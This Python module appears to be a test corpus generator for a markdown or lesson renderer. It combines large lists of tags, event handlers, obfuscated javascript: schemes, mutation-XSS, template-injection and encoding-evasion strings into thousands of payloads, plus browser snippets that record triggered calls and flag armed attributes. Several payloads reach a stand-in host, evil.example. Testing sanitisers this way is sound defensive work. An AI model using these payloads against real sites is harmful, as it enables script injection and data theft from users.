"""Markup that people who mean ill paste into fields: thousands of kinds, always the same ones."""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Iterator

MOST = 6_500
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onblur",
    "onpageshow",
    "onpointerenter",
    "onscroll",
    "onwheel",
    "onkeydown",
    "oninput",
    "onsubmit",
    "onloadstart",
    "oncanplay",
    "ontransitionend",
    "onbeforeprint",
    "onhashchange",
    "onmessage",
    "onresize",
    "onselect",
    "oncopy",
    "onpaste",
    "ondrag",
    "onauxclick",
    "oncontentvisibilityautostatechange",
    "onafterscriptexecute",
    "onfinish",
]
TAGS = [
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "details",
    "body",
    "input",
    "form",
    "math",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "xmp",
    "textarea",
    "title",
    "select",
    "marquee",
    "a",
    "button",
    "image",
    "isindex",
    "frameset",
    "bgsound",
    "applet",
    "keygen",
    "x",
    "my-part",
    "dialog",
    "slot",
    "source",
    "track",
    "portal",
    "plaintext",
    "listing",
    "noembed",
    "table",
    "td",
    "p",
    "main",
    "footer",
    "h1",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "&#106;avascript:",
    "java&Tab;script:",
    "\x01javascript:",
    "data:text/html,",
    "vbscript:",
    "//evil.example/",
    "data:image/svg+xml,",
    "java&#10;script:",
    "&#x6A&#x61;vascript:",
    "javascript&colon;",
    "%6aavascript:",
    "java\u00adscript:",
    "\u200bjavascript:",
    "feed:javascript:",
    "view-source:javascript:",
    "blob:",
    "mhtml:",
    "\\\\evil.example\\",
    "/\\evil.example/",
    "https:evil.example/",
    "jav&NewLine;ascript:",
]
AROUND = [
    "{}",
    "**{}**",
    "[[{}]]",
    "`{}`",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "\\{}",
    "<!--{}-->",
    "<![CDATA[{}]]>",
    "$\\text{{{}}}$",
    "::: note {}\nx\n:::",
    '"{}',
    "'{}",
    "</textarea>{}",
    "</script>{}",
    "</title>{}",
    "]]>{}",
    "# {}",
    "[^1]: {}",
    "## {}",
    "1. {}",
    "term\n: {}",
    "$${}$$",
    "```{}\nx\n```",
    "::: check\nx\n---answer---\n{}\n:::",
    '![a](assets/gauge.svg "{}")',
    "![{}](assets/gauge.svg)",
    "[a](lesson:one '{}')",
    "[@{}]",
    "</main>{}",
    "</div></div>{}",
    "<p title='{}'>",
    "--><!---->{}",
    "\ue0000\ue001{}",
    "</style>{}",
    "</noscript>{}",
    "<svg><style>{}",
    "{}<!--",
    "{}`",
]
FORMS = [
    "[x]({}hit())",
    "![x]({}hit())",
    "<{}hit()>",
    '[x](a "{}hit()")',
    "[x][y]\n\n[y]: {}hit()",
    "$\\href{{{}hit()}}{{x}}$",
    "$\\url{{{}hit()}}$",
    "::: film {}hit()\n:::",
    "[@{}hit()]",
    "[x](lesson:{}hit())",
    "<a href='{}hit()'>x</a>",
    "<iframe src={}hit()>",
    "<form action={}hit()><button>",
    "<object data={}hit()>",
    "<svg><a xlink:href={}hit()>x",
    "<math href={}hit()>x",
    "<meta http-equiv=refresh content='0;url={}hit()'>",
    "<base href={}hit()//>",
    "<button formaction={}hit()>",
    "[x](<{}hit()>)",
    "$\\includegraphics{{{}hit()}}$",
    "<svg><animate attributeName=href values={}hit()>",
    "<embed src={}hit()>",
    "<link rel=import href={}hit()>",
]
WHOLE = [
    "<img src=x onerror{gap}={gap}hit()>",
    "<svg{gap}onload=hit()>",
    "<script{gap}>hit()</script{gap}>",
    "<{gap}script>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=hit()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    "<svg><set attributeName=onmouseover to=hit()>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=hit() /></svg>#x'>",
    "<style>@import'//evil.example/x.css';*{{background:url(javascript:hit())}}</style>",
    "<p style=animation-name:x onanimationstart=hit()>",
    "<img id=hits name=hits><form id=document name=body><input name=attributes>",
    "<a id=defaultView href='x:hit()'>",
    "{{{{constructor.constructor('hit()')()}}}}",
    "${{hit()}}",
    "<%= hit() %>",
    "#{{hit()}}",
    "{{% import os %}}{{{{ 7*7 }}}}",
    '"><svg/onload=hit()>',
    "' autofocus onfocus=hit() x='",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */"
    "oNcliCk=hit() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit()//>",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "\\u003cscript\\u003ehit()",
    "%3Cscript%3Ehit()%3C/script%3E",
    "<img src='//evil.example/?",
    "<a ping=//evil.example href=/>x</a>",
    "\u202e<img src=x onerror=hit()>\u202c",
    "<br/\x0c/onclick=hit()>",
    "<\x00img src=x onerror=hit()>",
    "<title><img title='</title><img src onerror=hit()>'>",
    "<select><style></select><img src=x onerror=hit()></style>",
    "<xmp><p title='</xmp><svg onload=hit()>'>",
    "$\\unicode{{x3c}}\\text{{<img src=x onerror=hit()>}}$",
    '$\\class{{x" onclick="hit()}}{{y}}$',
    "$\\style{{x:url(hit)}}{{y}}$",
    '$\\color{{red" onclick="hit()}}y$',
    '$\\hspace{{1em" onclick=hit()}}$',
    "[[a|<img src=x onerror=hit()>]]",
]
GAPS = ["", " ", "/", "\t", "\n", "\x0b", "\x0c", "\r", "\xa0", "\u3000", "\x00", "/x/", " a=b "]
HOOK = """
window.hits = [];
for (const name of ["alert", "confirm", "prompt", "hit"]) window[name] = () => window.hits.push(name);
document.addEventListener("securitypolicyviolation", (e) => window.hits.push(e.violatedDirective + e.blockedURI));
"""
PRESS = """
for (const each of document.querySelectorAll("main *"))
  for (const kind of ["focus", "mouseover", "toggle", "error", "load", "begin", "animationstart"])
    each.dispatchEvent(new Event(kind));
"""
ARMED = """
[...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on")
  || a.name === "srcdoc" || a.name === "ping"
  || /^(href|src|action|formaction|data|poster|xlink:href)$/.test(a.name)
    && /^[^\\w]*(javascript|vbscript|data|blob|mhtml):/i.test(a.value)
)).map((e) => e.outerHTML)
"""
WHOLENESS = """
({ mains: document.querySelectorAll("main").length,
   frame: [...document.body.children].map((e) => e.tagName).filter((name) => name !== "SCRIPT").join(" "),
   footer: document.querySelector("body > footer, body > * > footer") !== null, strange: [...document.querySelectorAll(
     "script:not([src^='/static/']), style, object, embed, applet, base, frameset, plaintext, marquee, xmp, "
     + "meta[http-equiv], link:not([rel~=stylesheet], [rel~=icon], [rel~=alternate], [rel~=license], [rel~=canonical])"
   )].filter((e) => e.type !== "application/ld+json").map((e) => e.outerHTML.slice(0, 200)) })
"""


def _elements() -> Iterator[str]:
    for tag, handler, around in itertools.product(TAGS, HANDLERS, AROUND):
        yield around.format(
            f"<{tag} src=x href=javascript:hit() tabindex=0 autofocus {handler}=hit()>hit()</{tag}>"
        )


def _links() -> Iterator[str]:
    for form, scheme, around in itertools.product(FORMS, SCHEMES, AROUND):
        yield around.format(form.format(scheme))


def _wholes() -> Iterator[str]:
    for whole, gap, around in itertools.product(WHOLE, GAPS, AROUND):
        yield around.format(whole.format(gap=gap))


def pastes(most: int = MOST) -> list[str]:
    """So many of them, all different: a third elements, a third links, a third what has names of its own."""
    chance = random.Random(6_500)
    found: dict[str, None] = {}
    for kind in (list(_wholes()), list(_links()), list(_elements())):
        wanted = len(found) + -(-most // 3)
        for each in chance.sample(kind, len(kind)):
            if len(found) == wanted:
                break
            found.setdefault(each)
    mixed = list(found)[:most]
    chance.shuffle(mixed)
    return mixed


def plain(text: str) -> str:
    """In one line, for a field that has one."""
    return re.sub(r"[\x00-\x1f]", " ", text)


def lines(some: list[str], most: int, between: str = " ") -> list[str]:
    """All of these in as few texts of at most so many characters as they fit in."""
    made = [""]
    for each in some:
        text = plain(each) if between == " " else each
        if len(made[-1]) + len(between) + len(text) > most:
            made.append("")
        made[-1] += (between if made[-1] else "") + text
    return made
